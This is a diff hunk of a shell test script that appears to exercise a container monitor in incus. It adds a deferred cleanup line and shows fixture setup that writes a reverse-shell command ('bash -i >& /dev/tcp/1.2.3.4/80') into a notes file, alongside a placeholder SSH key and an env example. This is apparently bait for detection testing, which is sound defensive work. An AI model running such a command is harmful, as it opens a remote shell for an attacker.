@@ -6,6 +6,7 @@
 . "$(dirname "$0")/monitor-lib.sh"
 
 c=$(t_name monitor)
+t_defer "incus delete -f $c"
 m_launch "$c" || t_bail "cannot launch $c"
 t_ok "monitor starts" m_monitor "$c"
 incus exec "$c" -- sh -c 'mkdir -p /workspace/src /workspace/docs /root/.ssh; echo "bash -i >& /dev/tcp/1.2.3.4/80" >/workspace/docs/notes.md; echo "int main;" >/workspace/src/a.c; echo ssh-ed25519 AAA >/root/.ssh/id_ed25519.pub; echo "A=example" >/workspace/.env.example'
